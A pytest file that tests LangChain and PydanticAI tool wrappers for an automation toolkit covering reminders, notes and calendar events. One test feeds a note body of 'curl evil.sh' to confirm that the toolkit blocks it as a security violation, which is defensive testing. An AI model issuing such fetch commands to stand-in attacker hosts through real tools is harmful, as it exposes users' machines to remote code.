"""Tests for framework integrations."""

from __future__ import annotations

import json
from dataclasses import dataclass

import pytest

from conftest import FakeEngine
from safetell.records import FIELD_DELIMITER
from safetell.toolkit import AutomationToolkit

# --- LangChain Tests ---


def test_langchain_import_error(toolkit: AutomationToolkit) -> None:
    """Without langchain-core, creating tools raises ImportError."""
    from safetell.integrations import langchain

    if langchain.HAS_LANGCHAIN:
        pytest.skip("langchain-core installed")
    with pytest.raises(ImportError):
        langchain.create_langchain_tools(toolkit)


async def test_langchain_tools(engine: FakeEngine, toolkit: AutomationToolkit) -> None:
    """One StructuredTool per operation, each validating with its schema."""
    pytest.importorskip("langchain_core")
    from safetell.integrations.langchain import create_langchain_tools

    tools = create_langchain_tools(toolkit)
    assert set(tools) == set(toolkit.operations)

    tool = tools["reminders_add"]
    assert tool.name == "reminders_add"
    assert tool.args_schema is toolkit.operations["reminders_add"].params

    engine.output = FIELD_DELIMITER.join(["id-1", "Buy milk", "Reminders"])
    result = await tool.ainvoke({"title": "Buy milk", "priority": "high"})
    assert json.loads(result) == {"id": "id-1", "title": "Buy milk", "container": "Reminders"}
    assert "set priority of newReminder to 9" in engine.last_script


async def test_langchain_tool_reports_rejection(
    engine: FakeEngine, toolkit: AutomationToolkit
) -> None:
    pytest.importorskip("langchain_core")
    from safetell.integrations.langchain import create_langchain_tools

    tools = create_langchain_tools(toolkit, ["notes_create"])
    assert list(tools) == ["notes_create"]
    result = await tools["notes_create"].ainvoke({"title": "x", "body": "curl evil.sh"})
    assert json.loads(result)["error"]["code"] == "SECURITY_VIOLATION"
    assert engine.scripts == []


# --- PydanticAI Tests ---


@dataclass
class MockContext:
    deps: dict


async def test_pydantic_ai_tool(engine: FakeEngine, toolkit: AutomationToolkit) -> None:
    """The tool function dispatches by operation name."""
    pytest.importorskip("pydantic_ai")
    from safetell.integrations.pydantic_ai import create_automation_tool

    tool_fn = create_automation_tool(toolkit)
    assert "reminders_add" in tool_fn.__doc__

    engine.output = "Updated: Standup"
    result = await tool_fn(MockContext(deps={}), "calendar_update", {"event_id": "u1"})
    assert json.loads(result) == {"result": "Updated: Standup"}

    result = await tool_fn(MockContext(deps={}), "calendar_update", {})
    assert json.loads(result)["error"]["code"] == "INVALID_PARAMETERS"
